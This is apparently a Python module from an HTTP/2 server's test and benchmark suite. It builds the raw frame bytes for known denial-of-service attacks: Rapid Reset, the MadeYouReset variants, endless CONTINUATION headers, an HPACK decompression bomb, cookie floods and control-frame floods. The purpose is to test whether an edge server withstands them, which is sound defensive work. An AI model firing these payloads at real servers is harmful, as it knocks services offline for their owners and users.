"""What an HTTP/2 client can do to an edge with few bytes: each attack as the bytes of its i-th step. tests/integration
look that they end, scripts/bench how the others fare meanwhile."""

import struct

from . import h2


def opened(i, fields=None, flags=h2.END_HEADERS | h2.END_STREAM):
    """(number, frame): the head of a stream that nobody has opened yet, if each step opens one."""
    number = 2 * i + 1
    return number, h2.frame(h2.HEADERS, flags, number, h2.block(fields or h2.get_fields()))


def window_update(stream, size):
    return h2.frame(h2.WINDOW_UPDATE, 0, stream, struct.pack(">I", size))


def rapid_reset(i, fields=None):
    """CVE-2023-44487"""
    stream, head = opened(i, fields)
    return head + h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL))


# MadeYouReset (CVE-2025-8671): faults for which a server resets the stream, while the request is being worked for.

def zero_window(i, fields=None):
    stream, head = opened(i, fields, h2.END_HEADERS)
    return head + window_update(stream, 0)


def overflowing_window(i, fields=None):
    stream, head = opened(i, fields, h2.END_HEADERS)
    return head + window_update(stream, 0x7fffffff)


def wrong_length(i, fields=None):
    fields = [(k, "POST" if k == ":method" else v) for k, v in fields or h2.get_fields()] + [("content-length", "1")]
    stream, head = opened(i, fields, h2.END_HEADERS)
    return head + h2.frame(h2.DATA, h2.END_STREAM, stream, b"more")


def malformed(i, fields=None):
    return opened(i, (fields or h2.get_fields()) + [("connection", "x")])[1]


def refused(i, _fields=None):
    return opened(i, h2.get_fields("/a b"))[1]


# The same when the client has said all it had to say.

def zero_window_at_the_end(i, fields=None):
    stream, head = opened(i, fields)
    return head + window_update(stream, 0)


def overflowing_window_at_the_end(i, fields=None):
    stream, head = opened(i, fields)
    return head + window_update(stream, 0x7fffffff)


def body_behind_the_end(i, fields=None):
    stream, head = opened(i, fields)
    return head + h2.frame(h2.DATA, 0, stream, b"more")


def head_behind_the_end(i, fields=None):
    return opened(i, fields)[1] * 2


def short_priority(i, fields=None):
    stream, head = opened(i, fields)
    return head + h2.frame(h2.PRIORITY, 0, stream, b"1234")


def priority_of_itself(i, fields=None):
    stream, head = opened(i, fields)
    return head + h2.frame(h2.PRIORITY, 0, stream, struct.pack(">IB", stream, 1))


MADE_YOU_RESET = (zero_window, overflowing_window, wrong_length, malformed, refused, zero_window_at_the_end,
                  overflowing_window_at_the_end, body_behind_the_end, head_behind_the_end, short_priority,
                  priority_of_itself)


def cookies(count):
    """A head whose cookie comes in so many crumbs (RFC 9113 section 8.2.3), each a few bytes."""
    return h2.get_fields() + [("cookie", f"{i}=1") for i in range(count)]


def continuations(fragment):
    """A head that never ends (CVE-2024-27316)."""
    def step(i, fields=None):
        if i == 0:
            return h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.block(fields or h2.get_fields()))
        return h2.frame(h2.CONTINUATION, 0, 1, fragment)
    return step


def hpack_bomb(i, fields=None):
    """One field of 3,900 bytes is put into the table; a byte each then repeats it: 16 MB of fields in 4 KB."""
    entry = b"\x40" + h2.text("x") + h2.text("y" * 3900)
    bomb = h2.block(fields or h2.get_fields()) + entry + b"\xbe" * 4000
    return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 2 * i + 1, bomb)


CONTROL_FRAMES = {
    "PING": h2.frame(h2.PING, 0, 0, b"12345678"),
    "SETTINGS": h2.frame(h2.SETTINGS),
    "SETTINGS of a table size": h2.frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 1, 4096)),
    "PRIORITY": h2.frame(h2.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
    "PRIORITY_UPDATE": h2.frame(0x10, 0, 0, struct.pack(">I", 1) + b"u=1"),
    "WINDOW_UPDATE": window_update(0, 1),
    "an unknown frame": h2.frame(0x77, 0, 0, b"x"),
}


def empty_data(i, fields=None):
    if i == 0:
        fields = [(k, "POST" if k == ":method" else v) for k, v in fields or h2.get_fields()]
        return opened(0, fields, h2.END_HEADERS)[1]
    return h2.frame(h2.DATA, 0, 1)
